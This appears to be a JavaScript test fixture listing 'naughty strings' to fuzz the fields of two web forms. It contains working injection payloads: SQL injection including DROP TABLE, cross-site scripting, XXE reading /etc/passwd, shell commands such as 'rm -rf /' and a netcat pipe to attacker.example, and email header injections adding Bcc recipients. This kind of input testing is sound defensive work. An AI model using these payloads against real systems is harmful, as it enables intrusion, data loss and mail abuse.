// Hostile strings for the drills (our own list, in the spirit of the "big list of naughty
// strings"): each is put into every field of both forms. Grouped so the report can say what was
// tried. Built with escapes so this file itself stays plain, printable UTF-8.

const repeat = (text, times) => text.repeat(times);

export const NAUGHTY = {
  empty: ['', ' ', '\t', '\u00a0', '\u3000', '\ufeff'],
  reserved: [
    'undefined', 'null', 'NULL', 'nil', 'None', 'true', 'false', '0', '-1', '1e999', 'NaN', 'Infinity',
    '[]', '{}', '[object Object]', '__proto__', 'constructor', 'hasOwnProperty', '$ne', '{"$gt":""}',
  ],
  numbers: ['0x41', '1/0', '999999999999999999999999999999', '-0', '0.0000000000000000000001', '1,000.00', '١٢٣'],
  sql: [
    "' OR '1'='1", "'; DROP TABLE enquiries; --", '1; DELETE FROM messages', "\" OR \"\"=\"", "' UNION SELECT * FROM enquiries --",
    "admin'--", "'); ATTACH DATABASE '/tmp/x.db' AS x; --", "' OR 1=1 LIMIT 1 OFFSET 1 --",
  ],
  script: [
    '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', "javascript:alert('x')", '<svg/onload=alert(1)>',
    '<iframe src="javascript:alert(1)">', '{{7*7}}', '${7*7}', '<%= 7*7 %>', '#{7*7}', '<!--#exec cmd="ls"-->',
    '</textarea><script>x</script>', '<a href="&#106;avascript:alert(1)">x</a>', '<![CDATA[x]]>',
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  ],
  shell: ['$(reboot)', '`id`', '; cat /etc/passwd', '| nc attacker.example 4444', '&& rm -rf /', '../../../../etc/passwd', '..\\..\\windows\\win.ini', 'file:///etc/passwd'],
  format: ['%s%s%s%s%s', '%n%n%n', '%x%x%x', '{0}{1}', '%d', '%%', '%1$s', '%.9999999f', '\\x00', '\\u0000', '\\', '\\\\'],
  controls: [
    'a\u0000b', '\u0000', 'name\u0000@example.org', 'a\u0008b', 'a\u001bb', '\u001b[31mred\u001b[0m', 'a\u007fb',
    'a\u0085b', 'bell\u0007',
  ],
  newlines: [
    'a\r\nb', 'a\nb', 'a\rb', '\r\n\r\n', 'a\u2028b', 'a\u2029b', 'a%0d%0ab', 'a%0D%0Ab', 'a%0ab', '%0d%0a%0d%0a',
    'a&#13;&#10;b', 'a\\r\\nb', 'a=0D=0Ab',
  ],
  unicode: [
    'Ω≈ç√∫˜µ≤≥÷', 'åß∂ƒ©˙∆˚¬…æ', '田中さんにあげて下さい', '사회과학원 어학연구소', '𠜎𠜱𠝹𠱓', 'ثم نفس سقطت وبالتحديد',
    'בְּרֵאשִׁית', '\u202eevil.exe\u202d', '\u202a\u202b\u202c\u202d\u202e', 'a\u200bb', '\u200b\u200c\u200d\u2060\ufeff',
    'Ada\u200dLovelace', 'Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮', 'ﷺ', '𝕿𝖍𝖊 𝖖𝖚𝖎𝖈𝖐', 'Ａｄａ', 'İstanbul', 'ß'.toUpperCase(),
    '\ud83d', '\udc00', 'e\u0301', '\u0130\u0131', '\u00ad',
  ],
  emoji: ['😍', '👩🏽‍💻', '🏳️‍🌈', '👨‍👩‍👧‍👦', '🇺🇸🇷🇺', '❤️', '🔥'.repeat(50), '0️⃣ 1️⃣ 2️⃣'],
  long: [
    repeat('A', 101), repeat('a', 255), repeat('x', 5001), repeat('x', 20000), repeat('😍', 2600),
    `${repeat('a', 250)}@example.org`, `a@${repeat('b', 300)}.com`, repeat('9', 11), repeat('Ab ', 40),
  ],
  emails: [
    'visitor@example.org\r\nBcc: victim@attacker.example', 'visitor@example.org\nCc: victim@attacker.example',
    'visitor@example.org,victim@attacker.example', 'visitor@example.org;victim@attacker.example',
    '"evil\r\nBcc: x@attacker.example"@example.org', 'victim@attacker.example%0d%0abcc:x@attacker.example',
    'a%0D%0ABcc%3Ax@example.org', '<victim@attacker.example>', 'visitor@example.org>\r\nRCPT TO:<victim@attacker.example',
    'a..b@example.com', '.a@example.com', 'a@example', 'user@[127.0.0.1]', 'user@localhost', '@example.org',
    'a@b.c', 'mailto:a@example.org', 'a@example.org ', ' a@example.org', 'ä@example.org', 'a@exämple.org',
  ],
  phones: ['9876543210\r\nBcc: x@attacker.example', '+919876543210', '98765 43210', '0000000000', '1234567890', '９８７６５４３２１０', '9876543210 '],
  headers: [
    'Subject: hacked', '\r\nBcc: victim@attacker.example', 'x\r\nX-Injected: yes', 'x\nContent-Type: text/html\n\n<b>hi</b>',
    'x\r\n.\r\nMAIL FROM:<a@attacker.example>\r\nRCPT TO:<victim@attacker.example>\r\nDATA\r\n', '=?utf-8?b?QmNjOiB4QGF0dGFja2VyLmV4YW1wbGU=?=',
  ],
};

/** Every naughty string, flattened, with its group: [{ group, value }]. */
export const NAUGHTY_LIST = Object.entries(NAUGHTY).flatMap(([group, values]) => values.map((value) => ({ group, value })));
